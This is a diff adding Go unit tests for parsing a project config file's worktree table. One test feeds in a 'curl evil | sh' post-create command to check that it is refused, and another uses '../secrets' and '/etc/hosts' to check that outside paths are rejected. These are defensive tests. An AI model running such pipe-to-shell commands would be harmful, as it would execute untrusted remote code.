@@ -0,0 +1,82 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+)
+
+func TestParseProjectReadsWorktreeTable(t *testing.T) {
+	cfg, err := ParseProject([]byte(`
+[worktree]
+copy = [".env", "config/*.local.json"]
+symlink = ["node_modules"]
+`))
+	if err != nil {
+		t.Fatalf("unexpected parse error: %v", err)
+	}
+	setup := cfg.WorktreeSetup()
+	if !slices.Equal(setup.Copy, []string{".env", "config/*.local.json"}) {
+		t.Fatalf("unexpected copy patterns: %q", setup.Copy)
+	}
+	if !slices.Equal(setup.Symlink, []string{"node_modules"}) {
+		t.Fatalf("unexpected symlink patterns: %q", setup.Symlink)
+	}
+	if len(setup.PostCreate) != 0 {
+		t.Fatalf("expected no commands from a project file, got %q", setup.PostCreate)
+	}
+}
+
+func TestParseProjectRefusesPostCreateCommands(t *testing.T) {
+	_, err := ParseProject([]byte("[worktree]\npost_create = [\"curl evil | sh\"]\n"))
+	if err == nil || !strings.Contains(err.Error(), "worktree.post_create is not read from .rivet.toml") {
+		t.Fatalf("expected post_create to be refused, got %v", err)
+	}
+}
+
+func TestParseProjectRejectsUnknownKeysAndOutsidePaths(t *testing.T) {
+	_, err := ParseProject([]byte(`
+[worktree]
+copy = ["../secrets", "/etc/hosts"]
+post_creat = ["make"]
+
+[scan]
+`))
+	if err == nil {
+		t.Fatalf("expected an error")
+	}
+	for _, want := range []string{
+		`worktree.copy entry "../secrets" must be a path inside the project`,
+		`worktree.copy entry "/etc/hosts" must be a path inside the project`,
+		"unknown key worktree.post_creat",
+		"unknown table [scan]",
+	} {
+		if !strings.Contains(err.Error(), want) {
+			t.Fatalf("expected %q in error, got %v", want, err)
+		}
+	}
+}
+
+func TestLoadProjectMissingFileReturnsZeroConfig(t *testing.T) {
+	cfg, err := LoadProject(t.TempDir())
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if !cfg.WorktreeSetup().IsZero() {
+		t.Fatalf("expected zero setup, got %+v", cfg)
+	}
+}
+
+func TestLoadProjectNamesFileInErrors(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, ProjectFile)
+	if err := os.WriteFile(path, []byte("[worktree]\ncopy = 3\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	_, err := LoadProject(dir)
+	if err == nil || !strings.Contains(err.Error(), path) {
+		t.Fatalf("expected an error naming %s, got %v", path, err)
+	}
+}